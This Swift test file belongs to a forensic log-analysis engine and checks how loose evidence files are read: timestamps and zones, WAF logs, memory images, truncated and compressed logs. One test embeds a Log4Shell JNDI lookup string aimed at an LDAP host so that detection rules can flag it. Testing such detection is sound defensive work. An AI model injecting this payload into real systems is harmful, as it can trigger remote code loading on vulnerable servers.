import ArtifactStore
import Bytes
import Evidence
import Foundation
import TestSupport
import Testing

@testable import Engine

/// Files read without a store: the same lines as in the results of a case.
struct LooseFileTests {
  private let folder: TemporaryFolder

  init() throws { folder = try TemporaryFolder() }

  private func read(
    _ file: String, as path: String? = nil, zone: String? = nil, usesAllCores: Bool = false
  ) throws -> (kind: LooseFile.Kind?, sink: CollectingSink) {
    let sink = CollectingSink()
    var kind: LooseFile.Kind?
    let artifact = Digest(of: [UInt8](try Data(contentsOf: URL(fileURLWithPath: file))))
    try LooseFile.read(
      file, path: path ?? file, zone: zone, artifact: artifact, usesAllCores: usesAllCores, into: sink
    ) { kind = $0 }
    return (kind, sink)
  }

  @Test func localTimesAreInTheZoneThatWasSaid() throws {
    let file = folder.path + "/dmesg.txt"
    try Data("[Wed Nov 25 05:20:12 2026] Linux version 6.1.0\n".utf8).write(to: URL(fileURLWithPath: file))
    let here = try #require(try read(file).sink.events.first?.time)
    let there = try #require(try read(file, zone: "540").sink.events.first?.time)
    #expect(here.zone == .inferred(0) && there.zone == .stated(540))
    #expect(here.nanoseconds - there.nanoseconds == 9 * 3600 * 1_000_000_000)
    // A zone with summer time has two offsets.
    try Data("[Sat Jul  4 05:20:12 2026] a\n[Wed Nov 25 05:20:12 2026] b\n".utf8).write(to: URL(fileURLWithPath: file))
    let times = try read(file, zone: "CET-1CEST,M3.5.0,M10.5.0/3").sink.events.compactMap(\.time)
    #expect(times.map { "\($0)" } == ["2026-07-04T03:20:12Z", "2026-11-25T04:20:12Z"])
    #expect(times.map(\.zone) == [.inferred(120), .inferred(60)])
  }

  @Test func linesMayEndInCarriageReturnsAlone() throws {
    let file = folder.path + "/console.log"
    let text = "[    0.000000] Linux version 6.1.0\r[    0.100000] audit: initialized\r"
    try Data(text.utf8).write(to: URL(fileURLWithPath: file))
    let found = try read(file)
    #expect(found.kind?.name == "log/linux.dmesg" && found.sink.events.count == 2)
    #expect(found.sink.events.last?.locator.line == 2)
  }

  private static let wafFolder = "\(PackageFiles.bundle)/waf/aws-waf-logs-cumulus/2026/11/25/05"

  @Test(arguments: [false, true])
  func aLogGivesWhatItsUnitGives(_ usesAllCores: Bool) throws {
    let store = try ArtifactStore(directory: folder.path + "/store")
    let names = try FileManager.default.contentsOfDirectory(atPath: Self.wafFolder).sorted()
    var attempts = 0
    for name in names {
      let file = "\(Self.wafFolder)/\(name)"
      let bytes = [UInt8](try Data(contentsOf: URL(fileURLWithPath: file)))
      let artifact = try store.objects.put(bytes).digest
      let unit = Unit(artifact: artifact, analyzer: "log", version: "", options: ["format": "aws.waf", "path": name])
      let result = try ResultFile(store)
      try LogAnalyzer().run(unit, Surroundings(store: store, rules: RuleLibrary(directory: "")), into: result)
      let stored = try result.finish()
      let expected = CollectingSink()
      try CaseResults.forEachLine(of: stored.digest, in: store) { line in
        switch line {
        case .event(let event): expected.event(event)
        case .finding(let finding): expected.finding(finding)
        case .coverage(let coverage): expected.coverage(coverage)
        default: break
        }
      }
      let (kind, found) = try read(file, usesAllCores: usesAllCores)
      #expect(kind?.name == "log/aws.waf" && kind?.encodings == ["gzip"])
      #expect(found.events == expected.events && !found.events.isEmpty)
      #expect(found.findings == expected.findings)
      #expect(found.coverages == expected.coverages)
      attempts += found.findings.filter { $0.rule.hasPrefix("log4shell") }.count
    }
    #expect(attempts > 0)
  }

  @Test func textOfNoFormatIsSearched() throws {
    let file = try folder.write("note.bin", "\u{1}\u{2} ... ${jndi:ldap://203.0.113.66:1389/a} ...\u{3}")
    let (kind, found) = try read(file)
    #expect(kind?.name == "unknown")
    #expect(found.findings.count == 1 && found.findings.first?.rule.hasPrefix("log4shell") == true)
    #expect(found.coverages.map(\.state) == [.scanned])
  }

  @Test func whatOnlyACaseCanHoldIsSaidToBeSkipped() throws {
    var lime: [UInt8] = Array("EMiL".utf8) + [1, 0, 0, 0]
    lime += [UInt8](repeating: 0, count: 4096)
    let image = try folder.write("host.lime", lime)
    let archive = try folder.write("a.zip", Array("PK\u{3}\u{4}".utf8) + [UInt8](repeating: 0, count: 60))
    let empty = try folder.write("empty.log", "")
    for (file, kind, part, count) in [
      (image, "memory/lime", "memory all", UInt64(lime.count)), (archive, "archive", "ir-analyze run", 64),
    ] {
      let (seen, found) = try read(file)
      #expect(seen?.name.lowercased() == kind)
      #expect(found.coverages.count == 1 && found.events.isEmpty)
      #expect(found.coverages.first?.state == .skipped && found.coverages.first?.end == count)
      #expect(found.coverages.first?.reason?.contains(part) == true)
    }
    let (seen, found) = try read(empty)
    #expect(seen?.name == "empty" && found.coverages.map(\.state) == [.parsed])
  }

  @Test func thePathSaysWhenACaptureWasTaken() throws {
    let file = "\(PackageFiles.bundle)/i-0b7c4e19d2f35a86e/2026-11-25_14:25:29/command/ps_output.txt"
    let (kind, found) = try read(file)
    #expect(kind?.name == "log/capture.ps")
    #expect(!found.events.isEmpty && found.events.contains { $0.time != nil })
  }

  /// A log that was truncated while its writer went on at the old place.
  @Test(arguments: [0, 3, 65_536, 3 << 20], [true, false])
  func aLogBehindAHoleIsReadWithItsPlaces(_ count: Int, _ isInFront: Bool) throws {
    let lines = (0..<30).map { "203.0.113.9 - - [10/Dec/2021:13:00:\($0 + 10) +0000] \"GET /\($0) HTTP/1.1\" 200 1\n" }
    let before = isInFront ? "" : lines[..<3].joined()
    let text = before + String(repeating: "\0", count: count) + lines[3...].joined()
    let (kind, found) = try read(folder.write("access.log", text))
    #expect(kind?.name == "log/web.access" && found.events.count == (isInFront ? 27 : 30))
    let first = found.events.first { $0.text("uri") == "/3" }
    #expect(first?.locator.offset == UInt64(before.utf8.count + count))
    #expect(first?.locator.line == (isInFront ? 1 : 4))
    let skipped = found.coverages.filter { $0.state == .skipped }
    #expect(skipped.map(\.reason) == (count == 0 ? [] : ["NUL bytes"]))
    #expect(skipped.first.map { $0.end - $0.start } ?? 0 == UInt64(count))
  }

  @Test func nothingButNULs() throws {
    let (kind, found) = try read(folder.write("a.log", String(repeating: "\0", count: 70_000)))
    #expect(kind?.name == "unknown" && found.coverages.map(\.end) == [70_000])
    #expect(found.coverages.first?.reason?.hasPrefix("nothing but NUL bytes") == true)
  }

  @Test func aCompressedLogOfNothingIsEmpty() throws {
    let file = try folder.write("access.log", "")
    _ = try runProgram("/usr/bin/gzip", ["-n", file])
    let (kind, found) = try read(file + ".gz")
    #expect(kind?.name == "empty" && kind?.encodings == ["gzip"])
    #expect(found.coverages.map(\.state) == [.parsed] && found.coverages.first?.reason == "empty file")
    // Cut off, nobody knows what was in it.
    let whole = [UInt8](try Data(contentsOf: URL(fileURLWithPath: file + ".gz")))
    let cut = try read(folder.write("cut.log.gz", Array(whole.prefix(12))))
    #expect(cut.sink.coverages.contains { $0.state == .skipped })
  }
}
